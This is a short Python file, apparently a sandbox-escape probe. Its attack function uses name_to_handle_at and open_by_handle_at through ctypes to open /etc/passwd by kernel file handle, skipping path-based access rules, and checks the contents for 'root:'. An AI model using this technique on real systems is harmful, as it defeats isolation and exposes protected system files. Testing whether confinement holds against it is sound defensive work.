"""Opens a file by the kernel's own handle of it, where no path is walked and no rule asked."""

import ctypes
import os


def attack():
    libc, NO_FOLDER = ctypes.CDLL(None), -100
    handle, mount = (ctypes.c_uint32 * 34)(128), ctypes.c_int()
    if libc.name_to_handle_at(NO_FOLDER, b"/etc/passwd", handle, ctypes.byref(mount), 0) != 0:
        return False
    root = os.open("/etc", os.O_RDONLY)
    file = libc.open_by_handle_at(root, handle, os.O_RDONLY)
    return file >= 0 and b"root:" in os.read(file, 4096)
